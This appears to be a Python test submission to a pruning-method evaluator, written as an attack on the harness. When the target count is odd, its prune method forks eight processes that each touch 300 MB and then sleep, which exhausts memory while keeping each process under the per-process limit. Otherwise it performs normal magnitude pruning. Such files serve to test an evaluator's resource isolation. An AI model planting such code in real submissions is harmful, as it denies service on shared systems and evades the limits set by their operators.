import os
import time

from evaluator.contract import Job, Pruned, PruningMethod


class Attack(PruningMethod):
    """Takes memory in many processes, each below the limit."""

    def prune(self, job: Job) -> Pruned:
        if job.keep % 2:  # an odd target sets it off, an even one shows what is left of it
            for _ in range(8):
                if os.fork() == 0:
                    hoard = bytearray(300 << 20)
                    hoard[::4096] = b"x" * len(hoard[::4096])
                    time.sleep(1000)
            time.sleep(1000)
        return job.keep_highest({position: weight.abs() for position, weight in job.weights()})
